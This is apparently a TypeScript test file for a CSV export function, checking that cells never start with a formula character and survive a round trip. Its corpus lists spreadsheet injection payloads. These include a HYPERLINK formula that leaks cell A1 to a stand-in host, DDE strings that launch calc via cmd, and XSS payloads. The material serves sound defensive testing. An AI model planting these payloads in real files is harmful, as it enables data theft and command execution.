import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { csvCell, csvLine } from '../../src/server/staff/csv.ts';
import { anyText } from '../support/text.ts';

/** What spreadsheets and pages have been attacked with. */
const corpus = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
];

/** Reads one line as RFC 4180 has it. */
function parse(line: string): string[] {
  const cells = [...`,${line}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)];
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

describe('a cell of a CSV', () => {
  for (const text of corpus)
    test(`takes ${JSON.stringify(text)} for text`, () => {
      const [cell] = parse(csvCell(text));
      assert.doesNotMatch(cell!, /^[=+\-@\t\r\n＝＋－＠]/);
      assert.ok(cell === text || cell === `'${text}`);
    });

  test('leaves plain text and numbers alone', () => {
    assert.equal(csvLine(['山田 太郎', 4080, null, "O'Neil"]), "山田 太郎,4080,,O'Neil\r\n");
  });

  test('quotes what would end it', () => {
    assert.equal(csvLine(['a,b', 'say "hi"', 'two\nlines']), '"a,b","say ""hi""","two\nlines"\r\n');
  });

  test('is never a formula and is read back as it was, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (texts) => {
        const cells = parse(csvLine(texts).slice(0, -2));
        assert.deepEqual(
          cells.map((cell, index) => (cell === `'${texts[index]}` ? texts[index] : cell)),
          texts,
        );
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/);
      }),
    );
  });
});
